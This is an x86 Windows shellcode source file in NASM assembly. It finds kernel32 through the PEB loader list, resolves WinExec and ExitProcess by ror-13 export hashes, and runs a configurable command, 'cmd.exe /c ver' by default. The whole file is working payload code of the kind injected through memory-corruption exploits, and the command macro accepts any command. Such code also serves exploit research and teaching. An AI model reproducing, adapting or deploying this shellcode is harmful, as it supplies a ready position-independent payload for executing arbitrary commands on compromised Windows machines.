; Windows, 32 bit: PEB, loader list, export table searched by ror-13 hashes; WinExec("cmd.exe /c ver"), ExitProcess.
bits 32
%ifndef WINDOWS_COMMAND
%define WINDOWS_COMMAND 'cmd.exe /c ver'
%endif
        cld
        call main
; find(hash): the function of kernel32 with that hash, in eax
find:   pushad
        xor edx, edx
        mov edx, [fs:edx + 0x30]
        mov edx, [edx + 0x0c]
        mov edx, [edx + 0x1c]   ; initialisation order: ntdll, kernel32
        mov edx, [edx]
        mov ebx, [edx + 8]
        mov eax, [ebx + 0x3c]
        mov edi, [ebx + eax + 0x78]
        add edi, ebx
        mov ecx, [edi + 0x18]
        mov ebp, [edi + 0x20]
        add ebp, ebx
next:   dec ecx
        mov esi, [ebp + ecx * 4]
        add esi, ebx
        xor edx, edx
        xor eax, eax
hash:   lodsb
        test al, al
        jz hashed
        ror edx, 13
        add edx, eax
        jmp hash
hashed: cmp edx, [esp + 0x24]
        jne next
        mov edx, [edi + 0x24]
        add edx, ebx
        movzx ecx, word [edx + ecx * 2]
        mov edx, [edi + 0x1c]
        add edx, ebx
        mov eax, [edx + ecx * 4]
        add eax, ebx
        mov [esp + 0x1c], eax
        popad
        ret 4
main:   pop ebp
        push dword 0x0e8afe98   ; WinExec
        call ebp
        call run
        db WINDOWS_COMMAND, 0
run:    pop ecx
        push byte 1
        push ecx
        call eax
        push dword 0x73e2d87e   ; ExitProcess
        call ebp
        push byte 0
        call eax
